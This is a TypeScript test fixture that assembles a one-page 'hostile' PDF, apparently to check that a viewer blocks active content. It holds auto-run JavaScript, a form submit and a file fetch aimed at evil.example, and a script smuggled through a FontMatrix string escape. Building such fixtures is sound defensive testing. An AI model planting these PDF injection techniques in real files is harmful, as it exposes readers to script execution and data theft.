// A safe copy that no writer of ours makes: a PDF that wants to run a script, open addresses, send a form and take a file.

const OBJECTS = [
  '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /AcroForm << /Fields [8 0 R] /XFA 10 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(x.exe) 9 0 R] >> >> >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> /Annots [7 0 R 8 0 R] /AA << /O 6 0 R >> >>',
  stream('BT /F 24 Tf 40 100 Td (hostile words) Tj ET'),
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); globalThis.document.title = "taken"; \\(\\))] >>',
  '<< /S /JavaScript /JS (app.alert\\("taken"\\); globalThis.document.title = "taken"; this.submitForm\\("http://evil.example/form"\\);) >>',
  '<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (http://evil.example/link) >> >>',
  '<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (typed) /Rect [10 10 200 40] /AA << /F 6 0 R >> >>',
  '<< /Type /Filespec /F (http://evil.example/x.exe) >>',
  stream(
    '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><field><event activity="initialize"><script>document.title="taken"</script></event></field></subform></template></xdp:xdp>',
  ),
];

function stream(content: string): string {
  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

function pdf(objects: readonly string[]): string {
  let file = '%PDF-1.7\n';
  const starts = objects.map((body, at) => {
    const start = file.length;
    file += `${at + 1} 0 obj\n${body}\nendobj\n`;
    return start;
  });
  const rows = starts.map((start) => `${String(start).padStart(10, '0')} 00000 n \n`).join('');
  return `${file}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF\n`;
}

/** One page that says "hostile words". */
export const HOSTILE_PDF = pdf(OBJECTS);
